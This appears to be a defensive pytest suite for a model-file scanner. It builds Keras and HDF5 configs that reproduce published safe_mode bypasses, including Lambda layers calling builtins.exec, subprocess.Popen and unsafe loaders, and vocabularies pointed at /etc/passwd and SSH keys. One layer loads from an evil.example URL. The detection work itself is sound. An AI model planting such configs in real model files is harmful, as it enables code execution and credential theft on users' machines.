"""Published Keras safe_mode bypasses, one class per test, each in a v3 ``.keras`` archive and in
a legacy ``.h5`` file (configs written as JSON, nothing is loaded)."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from mlsec.artifact import open_artifact
from mlsec.scan import ScanReport, scan
from tests.unit.scan.formats.test_hdf5 import _h5
from tests.unit.scan.formats.test_keras import DENSE, _keras, _sequential


def _fn(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def _lambda(function: dict[str, Any], **cfg: Any) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "lam", "function": function, **cfg},
        "registered_name": None,
    }


def _layer(cls: str, **cfg: Any) -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": cls, "config": {"name": "l", **cfg}}


def _as_keras(tmp_path: Path, config: dict[str, Any]) -> ScanReport:
    return scan(open_artifact(_keras(tmp_path, config)))


def _as_h5(tmp_path: Path, config: dict[str, Any]) -> ScanReport:
    p = tmp_path / "model.h5"
    _h5(p, config)
    return scan(open_artifact(p))


CONTAINERS: list[Callable[[Path, dict[str, Any]], ScanReport]] = [_as_keras, _as_h5]


def _found(report: ScanReport) -> set[tuple[str, str]]:
    return {(f.rule, f.severity.value) for f in report.findings}


@pytest.mark.parametrize("container", CONTAINERS, ids=["keras", "h5"])
@pytest.mark.parametrize(
    ("layer", "expected"),
    [
        # CVE-2025-1550: any module and function named by the config
        (_lambda(_fn("builtins", "exec")), ("KERAS-FUNCTION-IMPORT", "critical")),
        (
            {"module": "subprocess", "class_name": "Popen", "config": {"args": ["touch", "x"]}},
            ("KERAS-DANGEROUS-IMPORT", "critical"),
        ),
        # CVE-2025-8747: keras.utils.get_file downloads and writes a file
        (_lambda(_fn("keras.utils", "get_file")), ("KERAS-FUNCTION-IMPORT", "critical")),
        # CVE-2025-9906: safe mode switched off from inside the config, then a Lambda
        (
            _lambda(_fn("keras.config", "enable_unsafe_deserialization")),
            ("KERAS-FUNCTION-IMPORT", "critical"),
        ),
        (
            _lambda(_fn("keras.src.backend.common.global_state", "set_global_attribute")),
            ("KERAS-FUNCTION-IMPORT", "critical"),
        ),
        # the io-no chain: an allowed callable loading another model with safe_mode=False
        (
            _lambda(_fn("keras.models", "load_model"), arguments={"safe_mode": False}),
            ("KERAS-FUNCTION-IMPORT", "critical"),
        ),
        (_lambda(_fn("keras.saving", "load_model")), ("KERAS-FUNCTION-IMPORT", "critical")),
        # lookup layers reading a vocabulary path at load (GHSA-qg93-c7p6-gg7f)
        (_layer("StringLookup", vocabulary="/etc/passwd"), ("KERAS-EXTERNAL-READ", "high")),
        (_layer("IntegerLookup", vocabulary="/root/.ssh/id_rsa"), ("KERAS-EXTERNAL-READ", "high")),
        (
            _layer("TextVectorization", vocabulary="gs://bucket/vocab.txt"),
            ("KERAS-EXTERNAL-READ", "high"),
        ),
        # layers that load a model from a URL or path
        (
            {"class_name": "KerasLayer", "config": {"handle": "https://evil.example/m"}},
            ("KERAS-EXTERNAL-READ", "high"),
        ),
        (_layer("TFSMLayer", filepath="/tmp/other_model"), ("KERAS-TFSMLAYER", "high")),
    ],
)
def test_bypass_classes(
    tmp_path: Path,
    container: Callable[[Path, dict[str, Any]], ScanReport],
    layer: dict[str, Any],
    expected: tuple[str, str],
) -> None:
    assert expected in _found(container(tmp_path, _sequential(DENSE, layer)))


def test_keras2_output_shape_lambda(tmp_path: Path) -> None:
    layer = {
        "class_name": "Lambda",
        "config": {
            "name": "lam",
            "function": "l2_normalize",
            "function_type": "function",
            "module": "keras.backend",
            "output_shape": ["4wEAAAAAAAAA", None, None],
            "output_shape_type": "lambda",
        },
    }
    assert _found(_as_h5(tmp_path, _sequential(DENSE, layer))) == {("KERAS-LAMBDA", "critical")}


@pytest.mark.parametrize("container", CONTAINERS, ids=["keras", "h5"])
def test_ordinary_functions_and_vocabularies_are_clean(
    tmp_path: Path, container: Callable[[Path, dict[str, Any]], ScanReport]
) -> None:
    layers = [
        DENSE,
        _lambda(_fn("keras.activations", "relu")),
        _lambda(_fn("keras.src.ops.numpy", "square")),
        {
            "class_name": "Lambda",
            "config": {
                "name": "l2",
                "function": "l2_normalize",
                "function_type": "function",
                "module": "tensorflow.python.keras.backend",
                "output_shape": [None, 2],
                "output_shape_type": "raw",
            },
        },
        _layer("StringLookup", vocabulary=["a", "b", "c"]),
        _layer("TextVectorization", vocabulary=None, max_tokens=100),
    ]
    assert container(tmp_path, _sequential(*layers)).findings == ()
